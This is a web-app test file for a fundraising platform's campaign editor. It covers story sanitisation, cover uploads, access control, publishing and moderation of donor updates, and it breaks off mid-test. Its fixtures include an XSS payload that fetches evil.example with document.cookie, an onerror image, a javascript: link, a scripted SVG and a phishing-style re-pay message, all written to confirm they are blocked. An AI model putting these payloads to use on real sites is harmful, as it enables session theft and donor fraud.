// The approved campaigner's editor, as its user and its attacker would use it: the story is
// sanitized on write, the cover is judged by its bytes and re-encoded, only the owner (or staff)
// reaches a campaign, staff publish a complete draft, and updates reach donors who asked.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { campaignEditorMessages as em, spendingText } from '@sahyog/core';
import { schema as s } from '@sahyog/db';
import { and, desc, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { type Answer, call, loginAs, messagesTo, nextIp, postMultipart, registerUser, type TestUser, uniqueEmail } from '../support/accounts.ts';
import { getTestApp } from '../support/app.ts';
import { getDb, getTestDb } from '../support/db.ts';
import { createCampaign, unique } from '../support/factories.ts';

let owner: TestUser;
let ownerToken = '';
let staffToken = '';
beforeAll(async () => {
  await getTestApp();
  owner = await registerUser({ fullName: 'Campaign Owner' });
  ownerToken = await loginAs(owner);
  staffToken = await loginAs(await registerUser({ role: 'staff' }));
});

const jpeg = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 20, g: 120, b: 110 } } })
    .jpeg()
    .toBuffer();

async function draft(overrides: Record<string, unknown> = {}) {
  // As createDraft makes one: never published yet.
  return createCampaign({ status: 'draft', ownerId: owner.id, image: '', storyHtml: '', publishedAt: null, ...overrides });
}

async function postForm(url: string, token: string, fields: Record<string, string | Blob>, filename = 'cover.jpg') {
  const fd = new FormData();
  for (const [k, v] of Object.entries(fields)) {
    if (typeof v === 'string') fd.append(k, v);
    else fd.append(k, v, filename);
  }
  return postMultipart(url, token, fd);
}

const details = (overrides: Record<string, string> = {}) => ({
  intent: 'save',
  title: 'Books for the hill school',
  categoryId: '12',
  goalRupees: '250000',
  summary: 'Forty children, one shelf.',
  story: 'The school has **forty** children.',
  videoUrl: '',
  ...overrides,
});

async function row(id: number) {
  const [c] = await (await getDb()).select().from(s.campaigns).where(eq(s.campaigns.id, id));
  if (!c) throw new Error('campaign gone');
  return c;
}

describe('the story is Markdown the campaigner writes, shown as sanitized HTML', () => {
  it('keeps paragraphs, headings, lists, emphasis and links; typed HTML stays text, dangerous links go', async () => {
    const c = await draft();
    const story = [
      'Dear donors,',
      '',
      'The school has **forty** children and *one* shelf.',
      '',
      '## Why now',
      '',
      '- Monsoon',
      '- Exams in March',
      '',
      '1. Books',
      '2. A cupboard',
      '',
      'Read [the report](https://school.example/report) and [this](javascript:alert(2)).',
      '',
      '<script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror="alert(1)"><p onclick="steal()">hi</p>',
      '',
      '![a photo](https://evil.example/pixel.png)',
    ].join('\n');
    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ story }));
    expect(res.statusCode).toBe(302);
    const saved = await row(c.id);
    expect(saved.storyMarkdown).toBe(story);
    const html = saved.storyHtml;
    expect(html).toContain('<p>Dear donors,</p>');
    expect(html).toContain('<p>The school has <strong>forty</strong> children and <em>one</em> shelf.</p>');
    expect(html).toContain('<h2>Why now</h2>');
    expect(html).toMatch(/<ul>\s*<li>Monsoon<\/li>\s*<li>Exams in March<\/li>\s*<\/ul>/);
    expect(html).toMatch(/<ol>\s*<li>Books<\/li>\s*<li>A cupboard<\/li>\s*<\/ol>/);
    expect(html).toContain('<a href="https://school.example/report" rel="nofollow noopener noreferrer" target="_blank">the report</a>');
    // What looked like HTML is shown as the characters typed.
    expect(html).toContain('&lt;script&gt;');
    for (const bad of ['<script', '<img', '<p onclick', 'javascript:', 'pixel.png']) expect(html).not.toContain(bad);
    // No element carries a handler or a source: every tag is the allow-list's, bare but a link's href.
    for (const tag of html.match(/<[a-z][^>]*>/g) ?? [])
      expect(tag).toMatch(
        /^<(p|h2|ul|ol|li|strong|em|a href="https:[^"]*" rel="nofollow noopener noreferrer" target="_blank"|a rel="nofollow noopener noreferrer" target="_blank")>$/,
      );
    expect(await row(c.id)).toMatchObject({ title: 'Books for the hill school', categoryId: 12, goalPaise: 250000_00, summary: 'Forty children, one shelf.' });
    // The page shows it; the editor gives back the Markdown, not HTML.
    const { app } = await getTestApp();
    const editor = await app.inject({ method: 'GET', url: `/my-campaigns/${c.id}`, headers: { authorization: `Bearer ${ownerToken}` } });
    expect(editor.body).toContain('## Why now');
    expect(editor.body).toContain('Formatting help');
  });

  it('a story written before Markdown opens as Markdown and, saved unchanged, shows the same', async () => {
    const before =
      '<p>Since August 2024 our team has served <strong>212 families</strong>. Read <a href="https://ngo.example/report" rel="nofollow noopener noreferrer" target="_blank">the report</a>.</p><h3>What a gift does</h3><ul><li>A ration kit: ₹1,200</li><li>Medicines &amp; a check-up</li></ul>';
    const c = await draft({ storyHtml: before });
    const { app } = await getTestApp();
    const editor = await app.inject({ method: 'GET', url: `/my-campaigns/${c.id}`, headers: { authorization: `Bearer ${ownerToken}` } });
    const typed = editor.body.match(/<textarea[^>]*name="story"[^>]*>([\s\S]*?)<\/textarea>/)?.[1] ?? '';
    const markdown = typed.replaceAll('&amp;', '&').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&#x27;', "'").replaceAll('&quot;', '"');
    expect(markdown).toContain('**212 families**');
    expect(markdown).toContain('### What a gift does');
    expect(markdown).toContain('- Medicines & a check-up');
    expect(markdown).not.toMatch(/<\/?(p|strong|ul|li|h3)>/);
    expect((await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ story: markdown }))).statusCode).toBe(302);
    const squash = (h: string) => h.replace(/>\s+</g, '><').trim();
    expect(squash((await row(c.id)).storyHtml)).toBe(before);
  });

  it('Preview shows the story as its page would, and saves nothing', async () => {
    const c = await draft({ storyHtml: '<p>Old story.</p>' });
    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ intent: 'preview', story: '## New part\n\nWith **bold** words.' }));
    expect(res.statusCode).toBe(200);
    const preview = res.body.match(/<section id="story-preview"[\s\S]*?<\/section>/)?.[0] ?? '';
    expect(preview).toContain('<h2>New part</h2>');
    expect(preview).toContain('<strong>bold</strong>');
    expect(await row(c.id)).toMatchObject({ storyHtml: '<p>Old story.</p>', storyMarkdown: null });
  });

  it('bad details answer their messages and change nothing', async () => {
    const c = await draft({ title: 'Unchanged' });
    const cases: [Record<string, string>, string, string][] = [
      [{ title: '' }, 'title', em.titleRequired],
      [{ goalRupees: '500' }, 'goalRupees', em.goalRange],
      [{ goalRupees: '12.5' }, 'goalRupees', em.goalFormat],
      [{ categoryId: '99' }, 'categoryId', em.categoryRequired],
      [{ videoUrl: 'https://evil.example/watch?v=abcdefghijk' }, 'videoUrl', em.videoInvalid],
      [{ endsOn: '2020-01-01' }, 'endsOn', em.endsInPast],
      [{ faq1q: 'Where does the money go?' }, 'faq1', em.faqIncomplete],
    ];
    for (const [bad, field, message] of cases) {
      const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, details(bad));
      expect(res.statusCode, field).toBe(200);
      expect(res.body.replaceAll('&#x27;', "'"), field).toContain(message);
      expect(res.body, field).toMatch(
        new RegExp(`id="f-${field === 'faq1' ? 'faq1q' : field}"[^>]*aria-invalid="true"|aria-invalid="true"[^>]*id="f-${field === 'faq1' ? 'faq1q' : field}"`),
      );
    }
    expect((await row(c.id)).title).toBe('Unchanged');
  });

  it('a YouTube link is kept as its video id', async () => {
    const c = await draft();
    await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ videoUrl: 'https://youtu.be/dQw4w9WgXcQ?t=3' }));
    expect((await row(c.id)).videoId).toBe('dQw4w9WgXcQ');
  });
});

describe('the cover photo', () => {
  it('a real photo is cropped to 1200×800 and stored as JPEG and WebP, without its metadata', async () => {
    const c = await draft();
    const photo = await sharp({ create: { width: 1600, height: 1200, channels: 3, background: '#cc8844' } })
      .withExif({ IFD0: { Copyright: 'secret-location-tag' } })
      .jpeg()
      .toBuffer();
    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'cover', cover: new Blob([photo]) });
    expect(res.statusCode).toBe(302);
    const saved = await row(c.id);
    expect(saved.image).toMatch(new RegExp(`^/media/campaigns/${c.id}/cover-[0-9a-f]{12}\\.jpg$`));
    expect(saved.imageWebp).toBe(saved.image.replace(/\.jpg$/, '.webp'));
    const { dataDir } = await getTestDb();
    const file = join(dataDir, saved.image);
    expect(existsSync(file)).toBe(true);
    const meta = await sharp(file).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 1200, height: 800 });
    expect(meta.exif).toBeUndefined();
    expect((await sharp(join(dataDir, saved.imageWebp ?? '')).metadata()).format).toBe('webp');
    // A new cover replaces the old one's files: nothing of it is left to serve.
    expect((await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'cover', cover: new Blob([await jpeg(1200, 800)]) })).statusCode).toBe(302);
    expect((await row(c.id)).image).not.toBe(saved.image);
    expect(existsSync(file)).toBe(false);
    expect(existsSync(join(dataDir, saved.imageWebp ?? ''))).toBe(false);
  });

  it.each([
    ['a text file named .jpg', () => Promise.resolve(Buffer.from('GIF89a<script>alert(1)</script>')), em.coverType],
    [
      'an SVG with a script',
      () => Promise.resolve(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800"><script>alert(1)</script></svg>')),
      em.coverType,
    ],
    ['a photo too small', () => jpeg(300, 200), em.coverTooSmall],
    ['a file over 5 MB', async () => Buffer.concat([await jpeg(1200, 800), Buffer.alloc(5 * 1024 * 1024)]), em.coverTooLarge],
  ])('refuses %s with its message and keeps the old cover', async (_label, make, message) => {
    const c = await draft({ image: '/media/keep.jpg' });
    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'cover', cover: new Blob([await make()]) });
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain(message);
    expect((await row(c.id)).image).toBe('/media/keep.jpg');
  });

  it('a body far over the limit is refused before it is read (413)', async () => {
    const c = await draft();
    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'cover', cover: new Blob([Buffer.alloc(8 * 1024 * 1024)]) });
    expect(res.statusCode).toBe(413);
  });
});

describe('who reaches a campaign', () => {
  it('another signed-in user gets a 404 for it, and cannot change it; signed out goes to login', async () => {
    const c = await draft({ title: 'Mine alone' });
    const stranger = await loginAs(await registerUser());
    const { app } = await getTestApp();
    expect((await app.inject({ method: 'GET', url: `/my-campaigns/${c.id}`, headers: { authorization: `Bearer ${stranger}` } })).statusCode).toBe(404);
    const res = await postForm(`/my-campaigns/${c.id}`, stranger, details({ title: 'Taken over' }));
    expect(res.statusCode).toBe(404);
    const cover = await postForm(`/my-campaigns/${c.id}`, stranger, { intent: 'cover', cover: new Blob([await jpeg(1200, 800)]) });
    expect(cover.statusCode).toBe(404);
    // Every other form on the editor too: none of them is a way in.
    for (const intent of ['hindi', 'products', 'update', 'spend', 'remove-photo', 'preview', 'photo']) {
      const other = await postForm(`/my-campaigns/${c.id}`, stranger, { intent, title: 'Taken over', body: 'Taken over', amount: '100' });
      expect(other.statusCode, intent).toBe(404);
    }
    expect(await row(c.id)).toMatchObject({ title: 'Mine alone', image: '' });
    // Its owner too reaches it at one address only: other spellings of its number are no page.
    for (const other of [`0x${c.id.toString(16)}`, `+${c.id}`, `0${c.id}`, `${c.id}.0`, `${c.id / 1000}e3`, '2147483648']) {
      const res = await app.inject({ method: 'GET', url: `/my-campaigns/${other}`, headers: { authorization: `Bearer ${ownerToken}` } });
      expect(res.statusCode, other).toBe(404);
    }
    expect((await app.inject({ method: 'GET', url: `/my-campaigns/${c.id}` })).statusCode).toBe(302);
    const list = await app.inject({ method: 'GET', url: '/my-campaigns', headers: { authorization: `Bearer ${stranger}` } });
    expect(list.body).not.toContain('Mine alone');
    const mine = await app.inject({ method: 'GET', url: '/my-campaigns', headers: { authorization: `Bearer ${ownerToken}` } });
    expect(mine.body).toContain('Mine alone');
  });
});

/** A paid gift to `slug` by `email`, who asked for updates or not (the checkout's box). */
async function paidGiftOf(slug: string, email: string, updates: boolean) {
  const { services } = await getTestApp();
  const { order } = await services.giving.createOrder(
    {
      campaign: slug,
      amountPaise: 500_00,
      tipPaise: 0,
      urgentPaise: 0,
      items: [],
      donor: { name: 'Donor', email, mobile: '9876543210', pan: undefined, address: undefined },
      whatsappUpdates: updates,
      hideName: false,
      method: 'simulator',
    },
    { idempotencyKey: unique('k'), ip: nextIp() },
  );
  await services.giving.simulate(order.reference, 'success');
}

describe('publishing and updates', () => {
  it('staff publish only a complete draft; then it is public and the campaigner can no longer edit it', async () => {
    const { services, app } = await getTestApp();
    const c = await draft({ title: `Publish ${unique('p')}` });
    await expect(services.campaigner.publish(c.id)).rejects.toMatchObject({ message: em.publishNeeds });
    await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ title: c.title }));
    await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'cover', cover: new Blob([await jpeg(1200, 800)]) });
    const res = await app.inject({
      method: 'POST',
      url: '/admin/applications',
      headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Bearer ${staffToken}` },
      payload: new URLSearchParams({ intent: 'publish', campaignId: String(c.id) }).toString(),
    });
    expect(res.statusCode).toBe(302);
    const page = await app.inject({ method: 'GET', url: `/campaigns/${(await row(c.id)).slug}` });
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('type="image/webp"');
    expect(page.body).toContain('<strong>forty</strong>');
    const edit = await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ title: 'Changed after publishing' }));
    expect(edit.body).toContain(em.notEditable);
    expect((await row(c.id)).title).toBe(c.title);
    // The campaigner hears it is live, with its address and the way to its updates and payments.
    const live = (await messagesTo(owner.email)).filter((m) => m.subject === `Your campaign is live: ${c.title}`);
    expect(live).toHaveLength(1);
    expect(live[0]?.body).toContain(`/campaigns/${(await row(c.id)).slug}\n`);
    expect(live[0]?.body).toContain(`/my-campaigns/${c.id}\n`);
    // Taken offline and put back, it is not news: no second email.
    await app.catalog.campaigns.setStatus(c.id, 'draft', owner.id);
    await app.catalog.campaigns.setStatus(c.id, 'published', owner.id);
    expect((await row(c.id)).status).toBe('published');
    expect((await messagesTo(owner.email)).filter((m) => m.subject === `Your campaign is live: ${c.title}`)).toHaveLength(1);
  });

  it('publishing gives the campaign its address from its title, unique, and the console lists it as published at once', async () => {
    const { app } = await getTestApp();
    const tag = unique('w').toLowerCase();
    const title = `Clean Water for Barmer's Schools ${tag}`;
    const ready = { storyHtml: '<p>Two hand pumps.</p>' };
    // As an approved application makes them: never live yet.
    const first = await draft({ title, image: '/media/test.svg', publishedAt: null, ...ready });
    const second = await draft({ title: `${title}!`, image: '/media/test.svg', publishedAt: null, ...ready });
    expect(first.slug).not.toContain('clean-water');
    const move = (id: number, status: string) =>
      app.inject({
        method: 'POST',
        url: '/admin/campaigns',
        headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Bearer ${staffToken}` },
        payload: new URLSearchParams({ id: String(id), status }).toString(),
        remoteAddress: nextIp(),
      });
    expect((await move(first.id, 'published')).statusCode).toBe(302);
    expect((await move(second.id, 'published')).statusCode).toBe(302);
    const expected = `clean-water-for-barmer-s-schools-${tag.replace(/[^a-z0-9]+/g, '-')}`;
    expect((await row(first.id)).slug).toBe(expected);
    expect((await row(second.id)).slug).toBe(`${expected}-2`);
    expect((await app.inject({ method: 'GET', url: `/campaigns/${expected}-2` })).statusCode).toBe(200);
    const list = await app.inject({
      method: 'GET',
      url: `/admin/campaigns?q=${encodeURIComponent(tag)}`,
      headers: { authorization: `Bearer ${staffToken}` },
    });
    const rows = list.body.match(/<tr[\s\S]*?<\/tr>/g)?.filter((r) => r.includes(tag)) ?? [];
    expect(rows).toHaveLength(2);
    for (const r of rows) {
      expect(r).toContain('data-status="published"');
      expect(r).toMatch(new RegExp(`href="/campaigns/${expected}(-2)?"`));
    }
    // Taken offline and back, it keeps its address (donors' links still work).
    expect((await move(first.id, 'draft')).statusCode).toBe(302);
    await (await getDb()).update(s.campaigns).set({ title: 'Renamed while offline' }).where(eq(s.campaigns.id, first.id));
    expect((await move(first.id, 'published')).statusCode).toBe(302);
    expect((await row(first.id)).slug).toBe(expected);
  });

  it('an update shows on the page and is emailed only to paid donors who asked for updates', async () => {
    const c = await createCampaign({ ownerId: owner.id });
    const db = await getDb();
    const wants = uniqueEmail('wants');
    const quiet = uniqueEmail('quiet');
    await paidGiftOf(c.slug, wants, true);
    await paidGiftOf(c.slug, quiet, false);
    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, {
      intent: 'update',
      title: 'Shelves are up',
      body: 'The carpenter finished today.\n\n<b>Thank you</b>',
    });
    expect(res.statusCode).toBe(302);
    const [u] = await db.select().from(s.campaignUpdates).where(eq(s.campaignUpdates.campaignId, c.id));
    expect(u?.bodyHtml).toBe('<p>The carpenter finished today.</p><p>&lt;b&gt;Thank you&lt;/b&gt;</p>');
    // A campaigner's update waits for staff: not on the page, not emailed.
    expect(u?.status).toBe('pending');
    const { app } = await getTestApp();
    expect((await app.catalog.campaign(c.slug))?.updates).toEqual([]);
    expect((await messagesTo(wants)).some((m) => /Update from/.test(m.subject))).toBe(false);
    const decided = await call<Answer<{ status: string; recipients: number; emailed: boolean }>>('POST', `/api/v1/admin/campaign-updates/${u?.id}/decision`, {
      token: staffToken,
      body: { decision: 'approve' },
    });
    expect(decided.body.data).toEqual({ status: 'published', recipients: 1, emailed: true });
    expect((await app.catalog.campaign(c.slug))?.updates.map((x) => x.title)).toEqual(['Shelves are up']);
    expect((await messagesTo(wants)).some((m) => m.subject === `Update from ${c.title}: Shelves are up`)).toBe(true);
    expect((await messagesTo(quiet)).some((m) => /Update from/.test(m.subject))).toBe(false);
    const empty = await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'update', title: '', body: '' });
    expect(empty.body).toContain(em.updateTitleRequired);
  });
});

describe('photos and items', () => {
  it('gallery photos are re-encoded, shown on the page once live, removable, and stop at eight', async () => {
    const { app } = await getTestApp();
    const c = await draft({ image: '/media/x.jpg', storyHtml: '<p>Story</p>' });
    for (let i = 0; i < 8; i++)
      expect((await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'photo', photo: new Blob([await jpeg(2400, 1800)]) })).statusCode).toBe(302);
    const ninth = await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'photo', photo: new Blob([await jpeg(800, 600)]) });
    expect(ninth.body).toContain(em.galleryFull);
    const gallery = (await row(c.id)).gallery;
    expect(gallery).toHaveLength(8);
    // Shrunk to fit 1600 px, never cropped: 2400×1800 becomes 1600×1200.
    expect(gallery[0]).toMatchObject({ width: 1600, height: 1200 });
    const { dataDir } = await getTestDb();
    expect((await sharp(join(dataDir, gallery[0]?.webp ?? '')).metadata()).format).toBe('webp');
    await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'remove-photo', photo: gallery[0]?.jpeg ?? '' });
    expect((await row(c.id)).gallery.map((p) => p.jpeg)).toEqual(gallery.slice(1).map((p) => p.jpeg));
    // A removed photo is gone, not merely unlisted: its files no longer answer.
    for (const url of [gallery[0]?.jpeg ?? '', gallery[0]?.webp ?? '']) expect((await app.inject({ method: 'GET', url })).statusCode).toBe(404);
    expect((await app.inject({ method: 'GET', url: gallery[1]?.jpeg ?? '' })).statusCode).toBe(200);
    const { slug } = await getTestApp().then(({ services }) => services.campaigner.publish(c.id));
    const page = await app.inject({ method: 'GET', url: `/campaigns/${slug}` });
    expect(page.body).toContain(`srcSet="${gallery[1]?.webp}"`);
    expect(page.body).not.toContain(gallery[0]?.jpeg ?? 'never');
  });

  it('items are saved as the donor will see them; an incomplete row says so and changes nothing', async () => {
    const { app, services } = await getTestApp();
    const c = await draft({ image: '/media/x.jpg', storyHtml: '<p>Story</p>' });
    const bad = await postForm(`/my-campaigns/${c.id}`, ownerToken, {
      intent: 'products',
      product1title: 'School kit',
      product1price: '50',
      product1stock: '10',
    });
    expect(bad.statusCode).toBe(200);
    expect(bad.body).toContain(em.productIncomplete);
    const ok = await postForm(`/my-campaigns/${c.id}`, ownerToken, {
      intent: 'products',
      product1title: 'School kit',
      product1price: '750',
      product1stock: '40',
      product3title: 'Winter jacket',
      product3price: '1200',
      product3stock: '15',
    });
    expect(ok.statusCode).toBe(302);
    const items = await (await getDb()).select().from(s.campaignProducts).where(eq(s.campaignProducts.campaignId, c.id));
    expect(items.map((p) => [p.title, p.pricePaise, p.stock]).sort()).toEqual([
      ['School kit', 750_00, 40],
      ['Winter jacket', 1200_00, 15],
    ]);
    const { slug } = await services.campaigner.publish(c.id);
    const page = await app.inject({ method: 'GET', url: `/campaigns/${slug}` });
    expect(page.body).toContain('School kit');
    expect(page.body).toContain('₹750');
  });
});

describe('the way back to My campaigns', () => {
  async function page(url: string, token: string) {
    const { app } = await getTestApp();
    return app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` }, remoteAddress: nextIp() });
  }
  /** The links inside each account menu (the wide screens' Welcome menu and the phone menu's top). */
  const accountMenus = (html: string) => [...html.matchAll(/<nav aria-label="Your account(?: \(menu\))?"[^>]*>([\s\S]*?)<\/nav>/g)].map((m) => m[1] ?? '');

  it('the header menu and the profile lead a signed-in campaigner to /my-campaigns', async () => {
    await draft({ title: 'Water for the village' });
    const res = await page('/profile', ownerToken);
    expect(res.statusCode).toBe(200);
    const menus = accountMenus(res.body);
    expect(menus.length).toBe(2);
    for (const menu of menus) expect(menu).toMatch(/<a[^>]*href="\/my-campaigns"[^>]*>My Campaigns<\/a>/);
    const section = res.body.match(/<section aria-labelledby="my-campaigns"[\s\S]*?<\/section>/)?.[0] ?? '';
    expect(section).toContain('My campaigns');
    expect(section).toMatch(/href="\/my-campaigns"/);
    const list = await page('/my-campaigns', ownerToken);
    expect(list.body).toContain('Water for the village');
  });

  it('a donor without campaigns sees no campaigns section on the profile', async () => {
    const donor = await loginAs(await registerUser());
    const res = await page('/profile', donor);
    expect(res.statusCode).toBe(200);
    expect(res.body).not.toContain('aria-labelledby="my-campaigns"');
  });
});

describe('the editor’s payment form', () => {
  it('sent back with a mistake, asks for the bill again (a browser keeps no file); sent without a bill, says so', async () => {
    const c = await createCampaign({ ownerId: owner.id, status: 'published' });
    const [category] = await (await getDb()).select().from(s.spendingCategories).where(eq(s.spendingCategories.name, 'Food'));
    const fields = {
      intent: 'spend',
      spentOn: '2026-11-20',
      amount: '450',
      categoryId: String(category?.id),
      payee: 'Annapurna Kitchen',
      description: 'Meals',
    };
    const mistaken = await postForm(`/my-campaigns/${c.id}`, ownerToken, { ...fields, payee: '', bill: new Blob([await jpeg(800, 600)]) }, 'bill.jpg');
    expect(mistaken.statusCode).toBe(200);
    expect(mistaken.body).toContain(spendingText.payeeRequired);
    expect(mistaken.body).toContain(spendingText.filesAgain);
    const sent = await postForm(`/my-campaigns/${c.id}`, ownerToken, fields);
    expect(sent.statusCode).toBe(302);
    expect(decodeURIComponent(String(sent.headers['set-cookie']))).toContain(spendingText.proposedNoBill);
  });
});

describe('updates donors can trust (issue 26)', () => {
  const post = (c: { id: number }, title: string, body: string, token = ownerToken) =>
    postForm(`/my-campaigns/${c.id}`, token, { intent: 'update', title, body });
  const review = (id: number, body: Record<string, unknown>, token = staffToken) =>
    call<Answer<{ status: string; emailed: boolean }>>('POST', `/api/v1/admin/campaign-updates/${id}/decision`, { token, body });
  const latest = async (campaignId: number) =>
    (
      await (await getDb()).select().from(s.campaignUpdates).where(eq(s.campaignUpdates.campaignId, campaignId)).orderBy(desc(s.campaignUpdates.id)).limit(1)
    )[0];

  it('flags other sites to staff, who refuse the update with a reason: it never reaches the page or a donor', async () => {
    const c = await createCampaign({ ownerId: owner.id });
    const donor = uniqueEmail('donor');
    await paidGiftOf(c.slug, donor, true);
    expect((await post(c, 'URGENT', 'Your gift failed. Re-pay at http://evil.example/pay or pay.evil2.example today')).statusCode).toBe(302);
    const u = await latest(c.id);
    expect(u).toMatchObject({ status: 'pending', outsideHosts: ['evil.example', 'pay.evil2.example'] });
    const queue = await call<Answer<{ id: number; outsideHosts: string[] }[]>>('GET', '/api/v1/admin/campaign-updates', { token: staffToken });
    expect(queue.body.data.find((x) => x.id === u?.id)?.outsideHosts).toEqual(['evil.example', 'pay.evil2.example']);
    expect((await call('GET', '/api/v1/admin/campaign-updates', { token: ownerToken })).status).toBe(403);
    expect((await review(u?.id ?? 0, { decision: 'approve' }, ownerToken)).status).toBe(403);
    expect((await review(u?.id ?? 0, { decision: 'reject', reason: '' })).body.errors).toEqual({ reason: em.updateRejectReasonRequired });
    expect((await review(u?.id ?? 0, { decision: 'reject', reason: 'Asks donors to pay elsewhere' })).body.data.status).toBe('rejected');
    expect((await review(u?.id ?? 0, { decision: 'approve' })).status).toBe(409);
    // An id past the column's 32 bits is no update (it was a database error).
    expect((await review(2_147_483_648, { decision: 'approve' })).status).toBe(422);
    // One that never was is a 404 that says so, not "decided already".
    const none = await review(2_000_000_000, { decision: 'approve' });
    expect([none.status, (none.body as unknown as { message: string }).message]).toEqual([404, em.updateNotFound]);
    const form = await (await getTestApp()).app.inject({
      method: 'POST',
      url: '/admin/updates',
      headers: { authorization: `Bearer ${staffToken}`, 'content-type': 'application/x-www-form-urlencoded' },
      payload: 'id=2147483648&decision=approve',
    });
    expect(form.statusCode).toBeLessThan(500);
    const { app } = await getTestApp();
    expect((await app.catalog.campaign(c.slug))?.updates).toEqual([]);
    expect((await messagesTo(donor)).filter((m) => /Update from/.test(m.subject))).toEqual([]);
    // The campaigner hears why, and where to write it again.
    const refused = (await messagesTo(owner.email)).find((m) => m.subject === 'Your update was not published: URGENT');
    expect(refused?.body).toContain('for this reason:\n\nAsks donors to pay elsewhere');
    expect(refused?.body).toContain(`/my-campaigns/${c.id}`);

    // One that names another site for a good reason is let through: the page says where it goes.
    expect((await post(c, 'Camp photos', 'All the photos are at photos.example.org')).statusCode).toBe(302);
    const ok = await latest(c.id);
    expect((await review(ok?.id ?? 0, { decision: 'approve' })).body.data.status).toBe('published');
    expect((await app.catalog.campaign(c.slug))?.updates.map((x) => x.outsideHosts)).toEqual([['photos.example.org']]);
    const published = (await messagesTo(owner.email)).find((m) => m.subject === 'Your update is published: Camp photos');
    expect(published?.body).toContain('It is being emailed to the donor who asked to hear how the campaign goes.');
    expect(published?.body).toContain(`/campaigns/${c.slug}`);
    // The editor lists the campaigner's updates, newest first, with what became of each.
    expect((await post(c, 'Next week', 'More blankets are coming.')).statusCode).toBe(302);
    const editor = (await app.inject({ method: 'GET', url: `/my-campaigns/${c.id}`, headers: { authorization: `Bearer ${ownerToken}` } })).body;
    const rows = [...editor.matchAll(/<li[^>]*data-update-status="(\w+)"[^>]*>(.*?)<\/li>/gs)].map((m) => [m[1], m[2]?.replace(/<[^>]+>/g, '')]);
    expect(rows.map((r) => r[0])).toEqual(['pending', 'published', 'rejected']);
    expect(rows[0]?.[1]).toContain(em.updateWaiting);
    expect(rows[1]?.[1]).toContain(em.updateEmailed);
    expect(rows[2]?.[1]).toContain('URGENT');
    expect(rows[2]?.[1]).toContain(em.updateRefused);
    expect(rows[2]?.[1]).toContain(em.updateReason('Asks donors to pay elsewhere'));
    const page = await app.inject({ method: 'GET', url: `/campaigns/${c.slug}` });
    expect(page.body).toContain('This update names other websites: photos.example.org. We never ask you to pay anywhere but on this site.');
  });

  it('an update to a campaign nobody asked updates of is on the page, says so, and uses none of the day’s two emails', async () => {
    const c = await createCampaign({ ownerId: owner.id });
    await post(c, 'Quiet start', 'Nobody has given yet.');
    expect((await review((await latest(c.id))?.id ?? 0, { decision: 'approve' })).body.data).toMatchObject({ status: 'published', emailed: false });
    const { app } = await getTestApp();
    const editor = (await app.inject({ method: 'GET', url: `/my-campaigns/${c.id}`, headers: { authorization: `Bearer ${ownerToken}` } })).body;
    expect(editor).toContain(em.updateLive);
    expect(editor).not.toContain(em.updateEmailed);
    expect((await messagesTo(owner.email)).find((m) => m.subject === 'Your update is published: Quiet start')?.body).not.toContain('emailed');
  });

  it('a trusted campaign posts at once, and emails at most two updates a day (the rest stay on the page)', async () => {
    const c = await createCampaign({ ownerId: owner.id });
    const donor = uniqueEmail('donor');
    await paidGiftOf(c.slug, donor, true);
    await post(c, 'First', 'The first week went well.');
    const first = await latest(c.id);
    // Approved with trust: its next updates skip the queue.
    expect((await review(first?.id ?? 0, { decision: 'approve', trust: true })).body.data).toMatchObject({ status: 'published', emailed: true });
    expect((await post(c, 'Second', 'Medicines arrived.')).statusCode).toBe(302);
    expect((await latest(c.id))?.status).toBe('published');
    const third = await post(c, 'Third', 'Another update the same day.');
    expect(third.statusCode).toBe(302);
    expect(String(third.headers['set-cookie'])).toContain(encodeURIComponent(em.updateNotEmailed).slice(0, 20));
    const { app } = await getTestApp();
    expect((await app.catalog.campaign(c.slug))?.updates.map((x) => x.title)).toEqual(['Third', 'Second', 'First']);
    const subjects = (await messagesTo(donor)).map((m) => m.subject).filter((x) => x.startsWith('Update from'));
    expect(subjects.sort()).toEqual([`Update from ${c.title}: First`, `Update from ${c.title}: Second`]);
    const actions = await (await getDb())
      .select({ action: s.auditEvents.action })
      .from(s.auditEvents)
      .where(and(eq(s.auditEvents.subjectType, 'campaign'), eq(s.auditEvents.subjectId, String(c.id))));
    expect(actions.map((a) => a.action)).toEqual(
      expect.arrayContaining(['campaign.update.post', 'campaign.update.approve', 'campaign.updates.trust', 'campaign.update.email']),
    );
    expect(actions.filter((a) => a.action === 'campaign.update.post')).toHaveLength(3);
    expect(actions.filter((a) => a.action === 'campaign.update.email')).toHaveLength(2);
  });

  // Issue 38: the link is on our own host, so nothing flagged it, and it went to 30 donors clickable.
  it('a link to our own language switch or sign-in that goes on to another site names that site, from a trusted campaign too', async () => {
    const { app } = await getTestApp();
    const c = await createCampaign({ ownerId: owner.id });
    const donor = uniqueEmail('donor');
    await paidGiftOf(c.slug, donor, true);
    await post(c, 'Week one', 'Blankets bought.');
